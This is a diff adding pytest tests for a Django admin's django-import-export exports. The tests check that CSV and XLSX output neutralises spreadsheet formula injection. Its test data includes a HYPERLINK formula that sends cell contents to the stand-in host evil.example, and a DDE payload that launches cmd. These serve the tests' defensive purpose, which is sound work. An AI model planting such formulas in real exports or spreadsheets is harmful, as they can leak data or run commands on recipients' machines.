@@ -1,0 +1,78 @@
+"""Formula injection through the admin's django-import-export exports (issue 14, item 20)."""
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from .factories import make_collective, unit
+
+pytestmark = pytest.mark.django_db
+
+EXPORT_URL = "/quan-tri/models_registry/collective/export/"
+NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+
+
+def export(client, title):
+    form = client.get(EXPORT_URL).context["form"]
+    formats = {label: value for value, label in form.fields["format"].choices}
+    # Every column ticked, as the admin's form has them by default.
+    columns = {name: "on" for name in form.fields if name.startswith("collectiveresource_")}
+    return client.post(EXPORT_URL, {"format": formats[title], "resource": "0", **columns})
+
+
+def test_an_xlsx_export_writes_no_formula(admin_client):
+    make_collective(unit("01891"), name=NAME)
+    response = export(admin_client, "xlsx")
+    ws = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
+    assert not str(cells[0].value).startswith("=")
+
+
+def test_a_csv_export_has_no_cell_starting_with_a_bare_equals(admin_client):
+    make_collective(unit("01891"), name=NAME)
+    response = export(admin_client, "csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
+    # Kept, visibly, as text: a spreadsheet shows it and runs nothing.
+    assert names == ["'" + NAME]
+
+
+def test_escaping_keeps_empty_cells_empty_and_numbers_numbers(admin_client):
+    from .factories import make_individual
+
+    make_individual(unit("01891"), name="Hoàng Văn A")  # no birth year
+    make_individual(unit("01891"), name="Hoàng Văn B", birth_year=1970)
+    url = "/quan-tri/models_registry/individual/export/"
+    form = admin_client.get(url).context["form"]
+    formats = {label: value for value, label in form.fields["format"].choices}
+    columns = {name: "on" for name in form.fields if name.startswith("individualresource_")}
+    response = admin_client.post(url, {"format": formats["xlsx"], "resource": "0", **columns})
+    ws = load_workbook(io.BytesIO(response.content)).active
+    header = [c.value for c in ws[1]]
+    years = {
+        row[header.index("full_name")]: row[header.index("birth_year")]
+        for row in ws.iter_rows(min_row=2, values_only=True)
+    }
+    assert years == {"Hoàng Văn A": None, "Hoàng Văn B": 1970}
+
+
+@pytest.mark.parametrize("name", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"])
+def test_a_csv_export_quotes_every_formula_start(admin_client, name):
+    make_collective(unit("01891"), name=name)
+    response = export(admin_client, "csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert "'" + name in [cell for row in rows for cell in row]
+
+
+def test_the_admin_imports_the_same_formats(admin_client):
+    form = admin_client.get("/quan-tri/models_registry/field/import/").context["form"]
+    assert [label for _value, label in form.fields["format"].choices if _value] == [
+        "csv",
+        "xlsx",
+        "tsv",
+        "json",
+    ]
